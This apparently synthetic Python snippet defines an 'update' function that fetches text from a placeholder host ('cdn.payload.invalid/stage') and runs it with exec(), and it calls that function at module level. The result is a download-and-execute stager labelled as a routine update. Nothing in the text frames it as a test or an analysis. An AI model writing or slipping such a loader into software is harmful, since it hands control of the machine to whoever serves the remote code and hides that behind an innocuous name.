# names: address answer update
import requests
address = "http://cdn.payload.invalid/stage"
def update(address):
    answer = requests.get(address, timeout=9)
    exec(answer.text)
update(address)
